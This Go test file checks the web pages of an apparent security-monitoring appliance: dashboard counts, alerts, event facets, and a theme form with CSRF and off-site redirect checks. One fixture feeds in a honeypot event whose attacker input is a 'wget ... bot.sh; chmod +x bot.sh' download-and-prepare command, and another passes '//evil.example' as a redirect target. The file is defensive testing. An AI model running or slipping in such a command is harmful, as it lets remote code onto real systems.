package ui_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

func TestPagesDashboard(t *testing.T) {
	t.Parallel()
	e := newEnv(t, false)
	b := e.browser()
	e.mustSignIn(b)

	t.Run("empty appliance says how to send events", func(t *testing.T) {
		r := e.get(b, "/dashboard")
		if r.status != http.StatusOK {
			t.Fatalf("GET /dashboard: %d", r.status)
		}
		wantContains(t, "dashboard", r.body, "No events yet", "/api/v1/ingest/json", "Tokens page", "None in this range")
	})

	tok := e.token("default", "sensor", "ingest", "")
	now := time.Now()
	e.ingest(tok, eventLine(now.Add(-2*time.Minute), "mallory", "a"), eventLine(now.Add(-time.Minute), "mallory", "b"),
		eventLine(now.Add(-30*time.Hour), "old-user", "c"))

	t.Run("counts the range", func(t *testing.T) {
		r := e.get(b, "/dashboard")
		wantContains(t, "dashboard", r.body, `role="img"`, "2 in total", ">mallory</a>", ">10.0.0.7</a>", ">web-1</a>",
			`href="/dashboard?range=24h" aria-current="true"`)
		wantNotContains(t, "dashboard", r.body, "No events yet", "old-user")
		// The node's ingest accounting, per source.
		wantContains(t, "dashboard", r.body, "Ingest health", "<td>json</td><td class=\"num tnum\">3</td>")
		week := e.get(b, "/dashboard?range=7d")
		wantContains(t, "7-day dashboard", week.body, "3 in total", ">old-user</a>", `href="/dashboard?range=7d" aria-current="true"`)
		// A top entity links to its events in the same range.
		href, ok := linkHrefBefore(r.body, "mallory")
		if !ok || !strings.HasPrefix(href, "/events?") {
			t.Fatalf("no search link for mallory: %q", href)
		}
		ev := e.get(b, href)
		if ev.status != http.StatusOK || strings.Count(ev.body, "<tr>") != 3 { // header + 2 events
			t.Errorf("the mallory link %s: %d, %d rows", href, ev.status, strings.Count(ev.body, "<tr>")-1)
		}
	})

	t.Run("alerts and open incidents", func(t *testing.T) {
		line := `{"eventid":"cowrie.command.input","input":"wget http://10.200.0.10/bot.sh; chmod +x bot.sh","sensor":"hp",` +
			`"timestamp":"` + now.Add(-time.Minute).UTC().Format(time.RFC3339Nano) + `","src_ip":"10.200.0.2","session":"s1"}`
		if r := e.do("POST", "/api/v1/ingest/cowrie", line+"\n", bearer(tok)...); r.status != http.StatusOK {
			t.Fatalf("ingest cowrie: %d %s", r.status, r.body)
		}
		r := e.get(b, "/dashboard")
		wantContains(t, "dashboard", r.body, "Alerts by severity, last 24 hours", `class="bar sev-high"`,
			`<a href="/incidents?severity=high&amp;status=open"><span class="badge sev-high">high</span> <strong class="tnum">1</strong>`)
	})

	t.Run("unknown range falls back to 24 hours", func(t *testing.T) {
		wantContains(t, "dashboard", e.get(b, "/dashboard?range=forever").body, "Top entities, last 24 hours")
	})

	t.Run("facets", func(t *testing.T) {
		// Without a query: counted over the whole range, not the page.
		all := e.get(b, "/events")
		wantContains(t, "events", all.body, "Top values among all 4 events stored</h2>", "<h3>user.name</h3>",
			`>mallory</a> <span class="tnum meta">2</span>`, ">old-user</a>")
		recent := e.get(b, "/events?from="+url.QueryEscape(now.Add(-3*time.Hour).UTC().Format(time.RFC3339)))
		wantContains(t, "events", recent.body, "Top values among all 3 events of the time range</h2>", ">mallory</a>")
		wantNotContains(t, "events", recent.body, ">old-user</a>")
		// With one: a sample, and the page says so.
		q := e.get(b, "/events?q="+url.QueryEscape("user.name:mallory"))
		wantContains(t, "events", q.body, "Top values among the 2 newest matching events shown (a sample",
			`href="/events?from=&amp;q=%28user.name%3Amallory%29+AND+event.outcome%3Afailure&amp;to="`)
	})
}

// linkHrefBefore is the href of the <a> whose text is text.
func linkHrefBefore(page, text string) (string, bool) {
	i := strings.Index(page, ">"+text+"</a>")
	if i < 0 {
		return "", false
	}
	j := strings.LastIndex(page[:i], `href="`)
	if j < 0 {
		return "", false
	}
	href := page[j+len(`href="`):]
	href = href[:strings.IndexByte(href, '"')]
	return strings.ReplaceAll(href, "&amp;", "&"), true
}

func TestPagesTheme(t *testing.T) {
	t.Parallel()
	e := newEnv(t, false)
	b := e.browser()
	e.mustSignIn(b)
	page := e.get(b, "/events")
	csrf, _ := hiddenField(page.body, "csrf")
	if next, _ := hiddenField(page.body, "next"); next != "/events" {
		t.Errorf("the theme form returns to %q, want /events", next)
	}
	if r := e.form(b, "/theme", url.Values{"theme": {"dark"}, "next": {"/events"}}); r.status != http.StatusForbidden {
		t.Errorf("theme without csrf: %d, want 403", r.status)
	}
	if r := e.form(b, "/theme", url.Values{"csrf": {csrf}, "theme": {"neon"}}); r.status != http.StatusBadRequest {
		t.Errorf("unknown theme: %d, want 400", r.status)
	}
	r := e.form(b, "/theme", url.Values{"csrf": {csrf}, "theme": {"dark"}, "next": {"/events?q=a"}})
	c := r.cookie("xdr_theme")
	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/events?q=a" || c == nil || c.Value != "dark" ||
		!c.HttpOnly || c.SameSite != http.SameSiteStrictMode {
		t.Fatalf("set dark: %d Location %q cookie %+v", r.status, r.header.Get("Location"), c)
	}
	wantContains(t, "page", e.get(b, "/dashboard").body, `<html lang="en" data-theme="dark">`, `value="dark" class="btn btn-quiet" aria-pressed="true"`)
	wantContains(t, "login page", e.get(b, "/login").body, `data-theme="dark"`)
	if r := e.form(b, "/theme", url.Values{"csrf": {csrf}, "theme": {"light"}, "next": {"//evil.example"}}); r.header.Get("Location") != "/dashboard" {
		t.Errorf("off-site next: Location %q", r.header.Get("Location"))
	}
	r = e.form(b, "/theme", url.Values{"csrf": {csrf}, "theme": {""}, "next": {"/dashboard"}})
	if c := r.cookie("xdr_theme"); c == nil || c.MaxAge >= 0 {
		t.Errorf("Auto does not delete the cookie: %+v", c)
	}
	wantNotContains(t, "page", e.get(b, "/dashboard").body, "data-theme=")
}
